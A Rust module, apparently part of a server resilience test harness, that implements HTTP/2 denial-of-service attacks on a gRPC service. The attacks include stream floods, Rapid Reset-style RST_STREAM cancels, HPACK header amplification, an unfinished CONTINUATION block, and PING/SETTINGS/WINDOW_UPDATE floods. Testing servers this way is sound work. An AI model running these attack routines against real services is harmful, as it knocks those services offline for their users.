//! What one attacking connection does.

use std::io;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use tokio::time::{Instant, sleep, timeout_at};

use crate::cases::{Act, Calls, Case, Frame, Place, Trick};
use crate::data;
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, OPEN, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, Wire, put,
};

const GET: &str = "/school.v1.School/GetSchool";
const RECORD: &str = "/school.v1.School/RecordSchools";
const SYNC: &str = "/school.v1.School/SyncSchools";

/// How many frames go into one write.
const BATCH: u32 = 1_000;
/// How many calls are reset together: fewer than any server's SETTINGS_MAX_CONCURRENT_STREAMS.
const RESETS: u32 = 100;

/// Attacks until `until`, on a new connection whenever the server ends one; `of` connections share what is to be done.
pub(crate) async fn attack(case: &'static Case, to: SocketAddr, of: u32, until: Instant, ended: &AtomicU32) {
    // An attacker who is sent away comes back.
    while let Ok(result) = timeout_at(until, once(case, to, of)).await {
        if result.is_err() {
            ended.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(20)).await;
    }
}

async fn once(case: &Case, to: SocketAddr, of: u32) -> io::Result<()> {
    let path = match case.act {
        Act::Drip { stalled: true, .. } | Act::Fields(_) => SYNC,
        Act::Drip { .. } => RECORD,
        _ => GET,
    };
    let mut wire = Wire::open(to, path, case.manner).await?;
    match case.act {
        Act::OpenCalls { calls, polite } => open_calls(&mut wire, calls.for_one(of), polite).await?,
        Act::Drain(Calls::Allowed) => open_calls(&mut wire, u32::MAX, true).await?,
        Act::Drain(calls) => open_calls(&mut wire, calls.for_one(of), false).await?,
        Act::Unread { calls, note } => unread(&mut wire, calls, note).await?,
        Act::Reset(trick) => reset(&mut wire, trick).await?,
        Act::Drip { stalled, chunk } => data::drip(&mut wire, stalled, chunk).await?,
        Act::HalfHeaders => half_headers(&mut wire).await?,
        Act::Fields(place) => fields(&mut wire, place).await?,
        Act::Flood(frame) => flood(&mut wire, frame).await?,
        Act::Idle | Act::Honest => {}
    }
    wire.hold().await
}

impl Calls {
    fn for_one(self, of: u32) -> u32 {
        match self {
            Self::Each(calls) => calls,
            Self::InAll(calls) => calls.div_ceil(of),
            Self::Allowed => u32::MAX,
        }
    }
}

async fn open_calls(wire: &mut Wire, calls: u32, polite: bool) -> io::Result<()> {
    let mut left = calls;
    while left > 0 {
        let batch = left.min(BATCH).min(if polite { wire.room() } else { BATCH });
        let mut out = Vec::new();
        for _ in 0..batch {
            wire.put_call(&mut out, 0);
        }
        wire.send(&out).await?;
        left -= batch;
        if batch == 0 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    Ok(())
}

async fn unread(wire: &mut Wire, calls: u32, note: u32) -> io::Result<()> {
    let message = get_school(note);
    let mut left = calls;
    while left > 0 {
        // One that never reads does not know how many of its calls have ended; it goes on.
        let room = wire.room();
        let batch = left.min(100).min(if room == 0 && wire.is_deaf() { 100 } else { room });
        let mut out = Vec::new();
        for _ in 0..batch {
            let stream = wire.put_call(&mut out, 0);
            put(&mut out, DATA, END_STREAM, stream, &message);
        }
        wire.send(&out).await?;
        left -= batch;
        sleep(Duration::from_millis(if batch == 0 { 10 } else { 1 })).await;
    }
    Ok(())
}

/// Calls by the hundred whose handlers may run before the resets come: what they have answered by then is the server's.
async fn reset(wire: &mut Wire, trick: Trick) -> io::Result<()> {
    let message = get_school(100_000);
    loop {
        let (mut calls, mut resets) = (Vec::new(), Vec::new());
        for _ in 0..RESETS {
            let stream = wire.put_call(&mut calls, 0);
            put(&mut calls, DATA, END_STREAM, stream, &message);
            match trick {
                // CANCEL.
                Trick::Rapid => put(&mut calls, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                Trick::LateCancel => put(&mut resets, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                Trick::ZeroWindowUpdate => put(&mut resets, WINDOW_UPDATE, 0, stream, &[0; 4]),
                Trick::WindowOverflow => put(&mut resets, WINDOW_UPDATE, 0, stream, &OPEN.to_be_bytes()),
                Trick::DataAfterEnd => put(&mut resets, DATA, 0, stream, b"more"),
                Trick::OwnPriority => {
                    let mut payload = stream.to_be_bytes().to_vec();
                    payload.push(16);
                    put(&mut resets, PRIORITY, 0, stream, &payload);
                }
            }
        }
        wire.send(&calls).await?;
        if !resets.is_empty() {
            sleep(Duration::from_millis(2)).await;
            wire.send(&resets).await?;
        }
    }
}

/// Fields of one byte each, which take some 70 bytes once they are decoded.
async fn fields(wire: &mut Wire, place: Place) -> io::Result<()> {
    // The static table's `accept-charset` without a value.
    let fields = [0x80 | 15; 16_000];
    let mut out = Vec::new();
    match place {
        Place::HalfBlock => {
            put(&mut out, HEADERS, 0, 1, &fields);
            wire.send(&out).await
        }
        Place::Heads => loop {
            out.clear();
            for _ in 0..64 {
                wire.put_call_with(&mut out, 0, &fields);
            }
            wire.send(&out).await?;
        },
        Place::Trailers => {
            let streams: Vec<_> = (0..wire.room().min(BATCH)).map(|_| wire.put_call(&mut out, 0)).collect();
            wire.send(&out).await?;
            for stream in streams {
                out.clear();
                put(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &fields);
                wire.send(&out).await?;
            }
            Ok(())
        }
    }
}

async fn half_headers(wire: &mut Wire) -> io::Result<()> {
    // A literal field, new name, whose value of some 2 MB never gets complete. In full frames: h2 ends a connection
    // over many small ones.
    let mut block = b"\x83\x86\x40\x01x\x7f\x81\xff\x7f".to_vec();
    block.resize(16_384, b'x');
    let mut out = Vec::new();
    put(&mut out, HEADERS, 0, 1, &block);
    for _ in 0..4 {
        wire.send(&out).await?;
        sleep(Duration::from_millis(200)).await;
        out.clear();
        put(&mut out, CONTINUATION, 0, 1, &[b'x'; 16_384]);
    }
    Ok(())
}

async fn flood(wire: &mut Wire, frame: Frame) -> io::Result<()> {
    let mut out = Vec::new();
    for _ in 0..BATCH {
        match frame {
            Frame::Ping => put(&mut out, PING, 0, 0, b"12345678"),
            Frame::Settings => put(&mut out, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]),
            Frame::WindowUpdate => put(&mut out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }
    loop {
        wire.send(&out).await?;
    }
}

/// `GetSchoolRequest { id: 1, note_bytes }` as a gRPC message.
fn get_school(mut note: u32) -> Vec<u8> {
    let mut message = vec![0x08, 1, 0x10];
    while note >= 0x80 {
        message.push(note as u8 | 0x80);
        note >>= 7;
    }
    message.push(note as u8);
    let mut framed = vec![0, 0, 0, 0, message.len() as u8];
    framed.extend(message);
    framed
}
